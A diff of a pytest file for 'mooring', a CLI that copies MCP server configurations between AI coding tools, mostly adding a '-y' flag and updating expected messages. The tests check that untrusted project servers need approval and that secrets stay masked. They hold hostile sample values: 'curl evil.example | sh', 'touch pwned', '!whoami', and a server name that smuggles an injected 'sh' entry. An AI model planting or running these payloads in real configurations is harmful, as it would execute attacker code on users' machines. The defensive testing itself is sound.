@@ -42,7 +42,7 @@ def test_a_tools_servers_become_our_own_and_references_stay_references(home: Hom
         github={"command": "npx", "args": ["-y", "pkg"], "env": {"TOKEN": "${env:GITHUB_TOKEN}"}},
         docs={"url": "https://a.example/mcp", "headers": {"Authorization": "Bearer ${env:DOCS}"}},
     )
-    done = cli("mcp", "import", "--from", "cursor")
+    done = cli("mcp", "import", "-y", "--from", "cursor")
     assert (done.code, done.err) == (0, "")
     assert done.out == "Wrote 2 servers to ~/.config/mooring/mcp.json: docs, github.\n"
     assert servers(home) == {
@@ -57,30 +57,30 @@ def test_a_file_that_cannot_be_read_is_reported_instead_of_nothing_to_write(home
     cursor = "Skipped a file: ~/.cursor/mcp.json:1  The file is not valid JSON"
     gemini = "Skipped a file: ~/.gemini/settings.json:1  `mcpServers` should be an object, but is a list"
     for words, reported in [((), (True, True)), (("--from", "cursor"), (True, False))]:
-        done = cli("mcp", "import", *words)
+        done = cli("mcp", "import", "-y", *words)
         assert (done.code, done.out) == (1, "")
         assert done.err.startswith("There is nothing to write to ~/.config/mooring/mcp.json.\n")
         assert (cursor in done.err, gemini in done.err) == reported
-    [unread] = cli("mcp", "import", "--from", "gemini", "--json").data["unread"]
+    [unread] = cli("mcp", "import", "-y", "--from", "gemini", "--json").data["unread"]
     assert (unread["path"], unread["line"]) == (str(home.folder / "home/.gemini/settings.json"), 1)
     home.write("home/.claude.json", {"mcpServers": {"b": {"command": "b"}}})
-    assert cli("mcp", "import", "--from", "claude-code").code == 0
+    assert cli("mcp", "import", "-y", "--from", "claude-code").code == 0
 
 
 def test_without_a_source_everything_is_copied_that_wins_and_that_we_lack(home: Home, cli: Cli) -> None:
     home.write(OWN, '// mine\n{"mcpServers": {"a": {"command": "ours"}}}\n')
     configure_cursor(home, a={"command": "theirs"}, b={"command": "from-cursor"})
     home.write("home/.claude.json", {"mcpServers": {"b": {"command": "from-claude"}, "c": {"command": "c"}}})
-    assert cli("mcp", "import").out == "Wrote 2 servers to ~/.config/mooring/mcp.json: b, c.\n"
+    assert cli("mcp", "import", "-y").out == "Wrote 2 servers to ~/.config/mooring/mcp.json: b, c.\n"
     text = (home.folder / OWN).read_text()
     assert text.startswith('// mine\n{"mcpServers": {"a": {"command": "ours"}')
     assert '"from-cursor"' in text
-    assert "There is nothing to write to ~/.config/mooring/mcp.json." in cli("mcp", "import").err
+    assert "There is nothing to write to ~/.config/mooring/mcp.json." in cli("mcp", "import", "-y").err
 
 
 def test_a_command_in_a_value_stays_a_command(home: Home, cli: Cli) -> None:
     home.configure(x={"command": "npx", "env": {"TOKEN": "!op read secret", "HOST": "${HOST:-localhost}"}})
-    assert cli("mcp", "import", "x").code == 0
+    assert cli("mcp", "import", "-y", "x").code == 0
     assert servers(home)["x"]["env"] == {"TOKEN": "!op read secret", "HOST": "${HOST:-localhost}"}
 
 
@@ -90,16 +90,17 @@ def test_the_same_definition_is_skipped_and_another_is_replaced_only_if_asked_fo
     )
     before = path.read_bytes()
     configure_cursor(home, same={"type": "stdio", "command": "x"}, other={"command": "theirs"})
-    done = cli("mcp", "import", "--from", "cursor")
-    assert done.code == 2
+    assert cli("mcp", "import", "-y", "--from", "cursor", "other").code == 2
+    done = cli("mcp", "import", "-y", "--from", "cursor")
+    assert done.code == 0
     assert f"Skipped same: already in {path}." in done.err
     assert f'Skipped other: Server "other" already exists in {path}. --replace replaces it.' in done.err
     assert path.read_bytes() == before
-    assert cli("mcp", "import", "--from", "cursor", "--replace").out.endswith(": other.\n")
+    assert cli("mcp", "import", "-y", "--from", "cursor", "--replace").out.endswith(": other.\n")
     assert path.read_text() == (
         '{"mcpServers": {"same": {"command": "x", "args": []}, "other": {"command": "theirs"}}} // c\n'
     )
-    again = cli("mcp", "import", "--from", "cursor")
+    again = cli("mcp", "import", "-y", "--from", "cursor")
     assert again.code == 0
     assert f"Skipped other, same: already in {path}.\n" in again.err
 
@@ -112,40 +113,45 @@ def test_what_cannot_be_copied_is_named_and_the_rest_is(home: Home, cli: Cli) ->
         bad={"args": []},
         **{"a b": {"command": "z"}},
     )
-    done = cli("mcp", "import", "--from", "cursor")
-    assert done.code == 2
+    done = cli("mcp", "import", "-y", "--from", "cursor")
+    assert done.code == 0
     assert f"Skipped bad: it has neither a command nor a url ({path}:1)." in done.err
     assert "Skipped off: disabled. Name one to copy it as it is." in done.err
     assert "Skipped a b: Invalid server config: the name may have letters" in done.err
     assert set(servers(home)) == {"good"}
-    assert cli("mcp", "import", "--from", "cursor", "good", "bad").code == 1
-    assert cli("mcp", "import", "--from", "cursor", "off").code == 0
+    assert cli("mcp", "import", "-y", "--from", "cursor", "good", "bad").code == 1
+    assert cli("mcp", "import", "-y", "--from", "cursor", "off").code == 0
     assert servers(home)["off"] == {"command": "y", "enabled": False}
 
 
 def test_a_disabled_server_is_not_copied_to_where_it_would_be_on(home: Home, cli: Cli) -> None:
     home.write(OWN, {"mcpServers": {"off": {"command": "y", "enabled": False}}})
-    done = cli("mcp", "export", "--to", "claude-code", "off")
+    done = cli("mcp", "export", "-y", "--to", "claude-code", "off")
     assert done.code == 2
     assert "Skipped off: it is disabled, which Claude Code cannot express: there it would be on." in done.err
     assert not (home.home / ".claude.json").exists()
 
 
 def test_what_is_lost_is_said_key_by_key(home: Home, cli: Cli) -> None:
-    entry = {"command": "npx", "env": {"T": "${input:t}"}, "gallery": True, "envFile": "/x", "dev": {"watch": "src"}}
+    entry = {"command": "npx", "gallery": True, "envFile": "/x", "dev": {"watch": "src"}}
     home.write("home/.config/Code/User/mcp.json", {"servers": {"x": entry}})
-    done = cli("mcp", "import", "--json")
-    assert done.data["notExpressed"] == [{"name": "x", "key": key} for key in ("env.T", "gallery", "dev")]
+    done = cli("mcp", "import", "-y", "--json")
+    assert done.data["notExpressed"] == [{"name": "x", "key": key} for key in ("gallery", "dev")]
     assert servers(home)["x"] == {"command": "npx", "envFile": "/x"}
-    done = cli("mcp", "export", "x", "--to", "claude-desktop")
-    assert done.err == "x: claude-desktop cannot express `envFile`, so it is left out.\n"
+    done = cli("mcp", "export", "-y", "x", "--to", "claude-desktop")
+    assert done.code == 2
+    assert "Skipped x: Claude Desktop cannot express `envFile`, so the copy would lack it.\n" in done.err
+    home.configure(y={"command": "npx", "callTimeout": 5_000})
+    done = cli("mcp", "export", "-y", "y", "--to", "claude-desktop")
+    assert (done.code, done.err) == (0, "y: claude-desktop cannot express `callTimeout`, so it is left out.\n")
 
 
 def test_what_is_lost_of_many_servers_is_one_line_for_each_key(home: Home, cli: Cli) -> None:
     configure_cursor(home, **{f"s{number}": {"command": "npx", "env": {"K": "${env:V}"}} for number in range(500)})
-    done = cli("mcp", "export", "--to", "codex", "--dry-run")
+    done = cli("mcp", "export", "-y", "--to", "codex", "--dry-run")
     names = ", ".join(sorted(f"s{number}" for number in range(500)))
-    assert done.err.splitlines()[1:] == [f"{names}: codex cannot express `env.K`, so it is left out."]
+    why = "OpenAI Codex cannot express `env.K` (${V}), so the copy would lack it"
+    assert done.err.splitlines()[1:] == [f"Skipped {names}: {why}."]
 
 
 def test_a_secret_in_plain_text_is_copied_named_and_never_shown(home: Home, cli: Cli) -> None:
@@ -153,7 +159,7 @@ def test_a_secret_in_plain_text_is_copied_named_and_never_shown(home: Home, cli:
     configure_cursor(home, x=entry, y={"url": f"https://a.example/mcp?key={TOKEN}", "headers": {"X-Key": TOKEN}})
     shown = ""
     for words in (["--dry-run"], ["--dry-run", "--json"], [], [], ["--json"], ["--replace", "--dry-run"]):
-        done = cli("mcp", "import", "--from", "cursor", *words)
+        done = cli("mcp", "import", "-y", "--from", "cursor", *words)
         shown += done.out + done.err
     assert "x: `env.TOKEN` holds a secret in plain text, which is copied as it is." in shown
     assert "x: `args` holds" in shown
@@ -168,7 +174,7 @@ def test_a_dry_run_shows_the_change_and_writes_nothing(home: Home, cli: Cli) -> 
     path = home.write(OWN, json.dumps({"mcpServers": {"mine": mine}}, indent=2) + "\n")
     before = path.read_bytes()
     home.configure(new={"command": "npx", "env": {"A": "!whoami", "B": "${B}", "C": "canary-3"}})
-    done = cli("mcp", "import", "--dry-run")
+    done = cli("mcp", "import", "-y", "--dry-run")
     assert done.code == 0
     assert done.out == (
         f"--- {path}\n+++ {path}\n@@ -7,6 +7,14 @@\n"
@@ -177,7 +183,7 @@ def test_a_dry_run_shows_the_change_and_writes_nothing(home: Home, cli: Cli) -> 
         '+        "A": "!whoami",\n+        "B": "${B}",\n+        "C": "•••"\n+      }\n     }\n   }\n }\n'
     )
     assert path.read_bytes() == before
-    data = cli("mcp", "import", "--dry-run", "--json").data
+    data = cli("mcp", "import", "-y", "--dry-run", "--json").data
     assert (data["written"], data["planned"]) == ([], ["new"])
     assert data["diff"] + "\n" == done.out
 
@@ -186,14 +192,14 @@ def test_the_diff_of_a_file_on_one_line_hides_the_secrets_of_others(home: Home, 
     state = {"oauthAccount": {"token": "canary-1"}, "mcpServers": {"a": {"command": "x", "env": {"E": "canary-2 ü"}}}}
     home.write("home/.claude.json", state)
     configure_cursor(home, new={"command": "npx"})
-    shown = cli("mcp", "export", "new", "--to", "claude-code", "--dry-run").out
+    shown = cli("mcp", "export", "-y", "new", "--to", "claude-code", "--dry-run").out
     assert shown.count("•••") == 4
     assert "canary" not in shown
 
 
 def test_a_program_reads_what_was_done(home: Home, cli: Cli) -> None:
     configure_cursor(home, x={"command": "npx"}, off={"command": "y", "disabled": True})
-    assert cli("mcp", "import", "--json").data == {
+    assert cli("mcp", "import", "-y", "--json").data == {
         "version": 1,
         "tool": "mooring",
         "scope": "user",
@@ -205,6 +211,7 @@ def test_a_program_reads_what_was_done(home: Home, cli: Cli) -> None:
         "plainSecrets": [],
         "fromProject": [],
         "approved": [],
+        "stored": [],
         "unread": [],
     }
 
@@ -222,7 +229,7 @@ def test_a_program_reads_what_was_done(home: Home, cli: Cli) -> None:
 )
 def test_a_source_or_a_name_that_is_not_known_is_refused(words: list[str], message: str, home: Home, cli: Cli) -> None:
     configure_cursor(home, github={"command": "npx"})
-    done = cli("mcp", "import", *words)
+    done = cli("mcp", "import", "-y", *words)
     assert (done.code, done.out) == (2, "")
     assert done.err.startswith(f"mooring: {message}")
     assert not (home.folder / OWN).exists()
@@ -238,7 +245,7 @@ TEXTS = {
     "any.toml": '[mcp_servers.x]\ncommand = "npx"\nenv_vars = ["T"]\n',
     "opencode.json": '{"mcp": {"x": {"type": "local", "command": ["npx"], "environment": {"T": "{env:T}"}}}}',
     "goose.yaml": "extensions:\n  x: {type: stdio, cmd: npx, env_keys: [T], enabled: true}\n",
-    "continue.yaml": 'mcpServers:\n- {name: x, type: stdio, command: npx, env: {T: "${{ secrets.T }}"}}\n',
+    "continue.yaml": 'mcpServers:\n- {name: x, type: stdio, command: npx, env: {T: "t"}}\n',
     "zed/settings.json": '{"context_servers": {"x": {"command": "npx", "env": {"T": "t"}}}, "theme": "dark"}',
     ".cursor/mcp.json": '{"mcpServers": {"x": {"command": "npx", "env": {"T": "${env:T}"}}}}',
 }
@@ -247,12 +254,13 @@ TEXTS = {
 @pytest.mark.parametrize("name", TEXTS)
 def test_a_file_of_any_tool_is_read_by_its_name_or_its_content(name: str, home: Home, cli: Cli) -> None:
     path = home.write(f"elsewhere/{name}", TEXTS[name])
-    done = cli("mcp", "import", "--from", str(path))
+    done = cli("mcp", "import", "-y", "--from", str(path))
     assert done.code == 0, done.err
     (entry,) = servers(home).values()
     assert entry["command"] == "npx"
-    # Codex and Goose pass the variable on; what only Continue's own store has cannot be written elsewhere.
-    expected = {"zed/settings.json": {"env": {"T": "t"}}, "any.toml": {"passEnv": ["T"]}, "continue.yaml": {}}
+    # Codex and Goose pass the variable on.
+    written = {"env": {"T": "t"}}
+    expected = {"zed/settings.json": written, "any.toml": {"passEnv": ["T"]}, "continue.yaml": written}
     assert {key: value for key, value in entry.items() if key != "command"} == expected.get(
         name, {"env": {"T": "${T}"}}
     )
@@ -262,7 +270,7 @@ def test_a_file_of_any_tool_is_read_by_its_name_or_its_content(name: str, home: 
 @pytest.mark.parametrize("around", ["%s", "```json\n%s\n```\n"])
 def test_what_is_piped_in_is_read_too(name: str, around: str, home: Home) -> None:
     done = subprocess.run(
-        [MOORING, "mcp", "import", "--from", "-"],
+        [MOORING, "mcp", "import", "-y", "--from", "-"],
         cwd=home.cwd, env=home.env, input=around % TEXTS[name], text=True, capture_output=True, timeout=30, check=False,
     )  # fmt: skip
     assert (done.returncode, done.stdout) == (0, "Wrote 1 server to ~/.config/mooring/mcp.json: x.\n"), done.stderr
@@ -281,7 +289,7 @@ def test_what_is_piped_in_is_read_too(name: str, around: str, home: Home) -> Non
 )
 def test_a_file_without_servers_is_refused(text: str, message: str, home: Home, cli: Cli) -> None:
     path = home.write("elsewhere/file.txt", text)
-    done = cli("mcp", "import", "--from", str(path))
+    done = cli("mcp", "import", "-y", "--from", str(path))
     assert done.code == 2
     assert done.err.startswith(f"mooring: {path} {message}")
     assert "npx" not in done.err
@@ -289,7 +297,7 @@ def test_a_file_without_servers_is_refused(text: str, message: str, home: Home, 
 
 def test_entries_of_a_file_that_are_no_servers_are_named(home: Home, cli: Cli) -> None:
     path = home.write("x.json", {"mcpServers": {"a": {"command": "x"}, "b": {"type": "ws", "url": "ws://a"}}})
-    done = cli("mcp", "import", "--from", str(path))
+    done = cli("mcp", "import", "-y", "--from", str(path))
     assert (done.code, set(servers(home))) == (1, {"a"})
     assert "Skipped b: it is not a server to connect to: it uses WebSocket" in done.err
 
@@ -297,7 +305,7 @@ def test_entries_of_a_file_that_are_no_servers_are_named(home: Home, cli: Cli) -
 def test_a_file_that_is_read_anyway_is_taken_as_its_tool_reads_it(home: Home, cli: Cli) -> None:
     home.write("home/.copilot/mcp-config.json", {"mcpServers": {"x": {"command": "npx"}}})
     home.write("home/.copilot/settings.json", {"disabledMcpServers": ["x"]})
-    done = cli("mcp", "import", "--from", "~/.copilot/mcp-config.json")
+    done = cli("mcp", "import", "-y", "--from", "~/.copilot/mcp-config.json")
     assert "Skipped x: disabled." in done.err
     assert not (home.folder / OWN).exists()
 
@@ -317,24 +325,30 @@ def assert_nothing_written(home: Home) -> None:
     [
         ["import"],
         ["import", "--yes"],
+        ["import", "evil"],
         ["import", "evil", "--yes", "--replace"],
-        ["import", "--from", "claude-code"],
-        ["import", "--from", ".mcp.json"],
-        ["import", "--from", "./.mcp.json", "--no-project"],
+        ["import", "--from", "claude-code", "--yes"],
+        ["import", "--from", ".mcp.json", "--yes"],
+        ["import", "--from", "./.mcp.json", "--no-project", "--yes"],
         ["export", "--to", "cursor", "--yes"],
-        ["export", "evil", "--to", "claude-code"],
-        ["export", "evil", "--to", "claude-code", "-s", "project", "--replace"],
-        ["import", "evil", "-s", "project"],
+        ["export", "evil", "--to", "claude-code", "--yes"],
+        ["export", "evil", "--to", "claude-code", "-s", "project", "--replace", "--yes"],
+        ["import", "evil", "-s", "project", "--yes"],
     ],
 )
 def test_without_a_terminal_a_projects_server_is_not_copied_unless_it_was_approved(
     words: list[str], home: Home, cli: Cli
 ) -> None:
-    path = home.write("project/.mcp.json", {"mcpServers": {"evil": EVIL}})
+    # Other tools cannot express a command in a value.
+    entry = {**EVIL, "env": {}} if "export" in words else EVIL
+    path = home.write("project/.mcp.json", {"mcpServers": {"evil": entry}})
     before = path.read_bytes()
     done = cli("mcp", *words)
     is_same = "Skipped evil: already in" in done.err
-    assert is_same or done.code == 4
+    # Where nobody named it, it is reported and no failure.
+    is_named = "evil" in words or "mcp.json" in str(words)
+    assert is_same or done.code == (4 if is_named else 0)
+    assert is_same or "Skipped evil: it comes from the project and is not approved" in done.err
     assert_nothing_written(home)
     assert not (home.project / ".mooring").exists()
     assert path.read_bytes() == before
@@ -342,7 +356,7 @@ def test_without_a_terminal_a_projects_server_is_not_copied_unless_it_was_approv
 
 def test_the_command_that_is_named_approves_exactly_that_definition(home: Home, cli: Cli) -> None:
     path = home.write("project/.mcp.json", {"mcpServers": {"evil": EVIL}})
-    refused = cli("mcp", "import", "evil")
+    refused = cli("mcp", "import", "-y", "evil")
     assert "Skipped evil: it comes from the project and is not approved." in refused.err
     command = re.search(
         r"to approve exactly this: mooring (mcp approve evil --digest [0-9a-f]{64})$", refused.err, re.M
@@ -350,12 +364,12 @@ def test_the_command_that_is_named_approves_exactly_that_definition(home: Home, 
     assert command is not None, refused.err
     assert cli(*command[1].split()).code == 0
     path.write_text(path.read_text().replace("curl", "wget"))
-    changed = cli("mcp", "import", "evil")
+    changed = cli("mcp", "import", "-y", "evil")
     assert changed.code == 4
     assert "Skipped evil: it changed since you decided about it." in changed.err
     assert not (home.folder / OWN).exists()
     path.write_text(path.read_text().replace("wget", "curl"))
-    done = cli("mcp", "import", "evil")
+    done = cli("mcp", "import", "-y", "evil")
     assert done.code == 0
     assert done.err == (
         "evil comes from the project; your own servers start everywhere, unasked, and see more variables.\n"
@@ -366,9 +380,9 @@ def test_the_command_that_is_named_approves_exactly_that_definition(home: Home, 
 def test_a_rejected_server_is_left_out_unless_it_is_named(home: Home, cli: Cli) -> None:
     home.write("project/.mcp.json", {"mcpServers": {"evil": EVIL}})
     assert cli("mcp", "reject", "evil").code == 0
-    done = cli("mcp", "import")
+    done = cli("mcp", "import", "-y")
     assert (done.code, done.err.splitlines()[1]) == (0, "Skipped evil: rejected for this project.")
-    assert cli("mcp", "import", "evil").code == 4
+    assert cli("mcp", "import", "-y", "evil").code == 4
     assert not (home.folder / OWN).exists()
 
 
@@ -382,7 +396,7 @@ def test_any_file_of_the_project_asks_whatever_it_is_called(way: str, home: Home
     home.write(str(real.relative_to(home.folder)), content)
     if named != real:
         named.symlink_to(real)
-    done = cli("mcp", "import", "--from", str(named))
+    done = cli("mcp", "import", "-y", "--from", str(named))
     assert done.code == 4
     # `approve` does not know this file.
     assert "Skipped evil: it comes from the project and is not approved. Run this in a terminal" in done.err
@@ -394,16 +408,17 @@ def test_any_file_of_the_project_asks_whatever_it_is_called(way: str, home: Home
 )
 def test_naming_a_file_of_the_project_for_one_command_does_not_copy_it(words: list[str], home: Home, cli: Cli) -> None:
     home.write("project/docs/x.json", {"mcpServers": {"evil": EVIL}})
-    done = cli("--config", "docs/x.json", "mcp", *words)
-    assert (done.code, done.out) == (4, "")
+    done = cli("--config", "docs/x.json", "mcp", *words, "-y")
+    assert (done.code, done.out) == (4 if "docs/x.json" in words else 0, "")
+    assert "Skipped evil: " in done.err
     assert_nothing_written(home)
 
 
 def test_a_file_elsewhere_is_the_persons_own_and_so_is_one_in_their_home(home: Home, cli: Cli) -> None:
     path = home.write("elsewhere/servers.json", {"mcpServers": {"x": EVIL}})
-    assert cli("mcp", "import", "--from", str(path)).code == 0
+    assert cli("mcp", "import", "-y", "--from", str(path)).code == 0
     home.write("home/Downloads/servers.json", {"mcpServers": {"y": EVIL}})
-    assert cli("--cwd", str(home.home), "mcp", "import", "--from", "Downloads/servers.json").code == 0
+    assert cli("--cwd", str(home.home), "mcp", "import", "-y", "--from", "Downloads/servers.json").code == 0
     assert set(servers(home)) == {"x", "y"}
 
 
@@ -413,14 +428,14 @@ def test_the_persons_own_server_is_copied_not_the_one_that_a_project_would_put_i
     home.write("project/.mcp.json", {"mcpServers": {"x": EVIL}})
     home.configure(x={"command": "mine"})
     for words in (["import"], ["export", "--to", "cursor"]):
-        assert cli("mcp", *words).code == 0
+        assert cli("mcp", *words, "-y").code == 0
     assert servers(home) == servers(home, CURSOR) == {"x": {"command": "mine"}}
 
 
 def test_a_project_cannot_steer_the_terminal_or_the_file_with_names(home: Home, cli: Cli) -> None:
     name = 'x\x1b[2J\u202e", "y": {"command": "sh"}, "'
     home.write("project/.mcp.json", {"mcpServers": {name: EVIL, "../../x": EVIL}})
-    done = cli("mcp", "import")
+    done = cli("mcp", "import", "-y")
     assert "\x1b" not in done.err + done.out
     assert "\u202e" not in done.err
     assert_nothing_written(home)
@@ -428,9 +443,9 @@ def test_a_project_cannot_steer_the_terminal_or_the_file_with_names(home: Home, 
 
 def test_what_is_written_into_the_project_is_approved_there_and_stays_so_only_as_it_is(home: Home, cli: Cli) -> None:
     configure_cursor(home, a={"command": "npx", "env": {"TOKEN": TOKEN}}, b={"command": "npx"})
-    done = cli("mcp", "import", "-s", "project", "--json").data
+    done = cli("mcp", "import", "-y", "-s", "project", "--json").data
     assert (done["written"], done["approved"]) == (["a", "b"], ["a", "b"])
-    done = cli("mcp", "export", "--to", "claude-code", "-s", "project", "a")
+    done = cli("mcp", "export", "-y", "--to", "claude-code", "-s", "project", "a")
     note = "a: `env.TOKEN` holds a secret in plain text, which is copied as it is, and everybody who has the project"
     assert note in done.err
     listed = {row["name"]: row for row in cli("mcp", "list", "--json").data["servers"]}
@@ -445,7 +460,7 @@ def test_a_projects_link_leads_no_copy_out_of_it(home: Home, cli: Cli) -> None:
     target = home.write("home/.claude.json", "{}")
     (home.project / ".mcp.json").symlink_to(target)
     configure_cursor(home, a={"command": "npx"})
-    done = cli("mcp", "export", "--to", "claude-code", "-s", "project")
+    done = cli("mcp", "export", "-y", "--to", "claude-code", "-s", "project")
     assert done.code == 2
     assert "leads out of the project, so it was left as it is." in done.err
     assert target.read_text() == "{}"
@@ -480,13 +495,14 @@ def test_at_a_terminal_the_change_is_shown_and_the_person_decides(answer: str, c
 def test_at_a_terminal_a_projects_server_is_shown_in_full_and_approved_before_it_is_copied(
     words: list[str], home: Home
 ) -> None:
-    home.write("project/.mcp.json", {"mcpServers": {"evil": EVIL}})
+    entry = {**EVIL, "env": {"A": "touch pwned"}} if "export" in words else EVIL
+    home.write("project/.mcp.json", {"mcpServers": {"evil": entry}})
     with Person(home, "mcp", *words) as person:
         shown = person.sees("Let it be started? [y/N]: ")
         assert "curl evil.example | sh" in shown
         assert "touch pwned" in shown
         person.types("n")
-        assert person.ended() == 4
+        assert person.ended() == 0, "it was not named"
         assert "Skipped evil: it comes from the project, and you did not approve it." in person.shown
     assert_nothing_written(home)
     with Person(home, "mcp", *words) as person:
@@ -522,7 +538,12 @@ def test_two_commands_at_once_and_another_person_beside_lose_nothing(home: Home,
         configure_cursor(each, **entries)
         each.write(OWN, '// kept\n{"mcpServers": {"mine": {"command": "x"}}}\n')
     before = (other.folder / OWN).read_bytes()
-    sources = [["import"], ["import", "--from", "cursor"], ["import", "s1", "s2"], ["add", "new", "--no-test", "npx"]]
+    sources = [
+        ["import", "-y"],
+        ["import", "-y", "--from", "cursor"],
+        ["import", "-y", "s1", "s2"],
+        ["add", "new", "--no-test", "npx"],
+    ]
     commands = [
         subprocess.Popen([MOORING, "mcp", *words], cwd=home.cwd, env=home.env, stdout=subprocess.PIPE, text=True)
         for words in sources
@@ -548,7 +569,7 @@ def cpu_of_copying(cli: Cli, words: list[str], servers: int) -> float:
         for path in (OWN, "home/.codex/config.toml"):
             (cli.home.folder / path).unlink(missing_ok=True)
         began = time.process_time()
-        assert cli("mcp", *words).out.startswith(f"Wrote {servers} servers")
+        assert cli("mcp", *words, "-y").out.startswith(f"Wrote {servers} servers")
         return time.process_time() - began
 
     return min(measure() for _ in range(3))
@@ -611,7 +632,7 @@ def test_what_was_imported_is_exported_and_read_again_as_it_was_except_what_is_s
     scope = "user" if find_target(tool, "user") else "project"
     before = {choice.name: choice.definition.config for choice in home.inventory().choices}
     names = list(imported) if tool == "mooring" else []
-    done = cli("mcp", "export", *names, "--to", tool, "-s", scope, "--json").data
+    done = cli("mcp", "export", "-y", *names, "--to", tool, "-s", scope, "--json").data
     skipped = {each["name"]: each["why"] for each in done["skipped"]}
     assert {*done["written"], *skipped} == {*imported}
     lost: dict[str, set[str]] = {}
@@ -641,7 +662,7 @@ def test_what_was_imported_is_exported_and_read_again_as_it_was_except_what_is_s
 def test_every_tool_takes_at_least_half_of_what_others_have(imported: dict[str, Any], home: Home, cli: Cli) -> None:
     home.write(OWN, {"mcpServers": imported})
     for tool in ("cursor", "claude-code", "vscode", "opencode", "gemini"):
-        done = cli("mcp", "export", "--to", tool, "--json").data
+        done = cli("mcp", "export", "-y", "--to", tool, "--json").data
         assert len(done["written"]) > len(imported) / 2, tool
 
 
